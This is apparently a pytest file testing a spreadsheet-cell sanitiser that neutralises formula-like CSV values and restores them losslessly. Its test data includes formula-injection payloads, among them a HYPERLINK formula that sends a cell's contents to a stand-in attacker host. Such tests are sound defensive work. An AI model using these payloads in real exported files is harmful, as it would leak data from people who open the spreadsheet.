"""CSV cells: nothing a resident typed runs as a spreadsheet formula, and nothing is lost."""

from __future__ import annotations

import pytest

from buurtwhatsapp.common.spreadsheet_cells import neutralise, restore

FORMULAS = [
    '=HYPERLINK("https://ev.il/?"&D2,"klik")',
    "+31612345678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
HARMLESS = ["Zoë van 't Veld", "Kagerdreef", "12a", "2158AB", "", "a=b", "1-2", "e@x.org"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_cell_becomes_text(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_other_cells_are_unchanged(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [*FORMULAS, *HARMLESS, "'=1+1", "''", "'", "'plain"])
def test_restore_gives_back_every_value(value: str) -> None:
    assert restore(neutralise(value)) == value


def test_a_value_that_starts_with_an_apostrophe_keeps_it() -> None:
    # Else "'=1" (typed) and "=1" (neutralised) would be the same cell.
    assert neutralise("'=1") == "''=1"
    assert neutralise("=1") != neutralise("'=1")


def test_none_and_other_types_are_written_as_text() -> None:
    assert (neutralise(None), neutralise(12), neutralise(-3)) == ("", "12", "'-3")
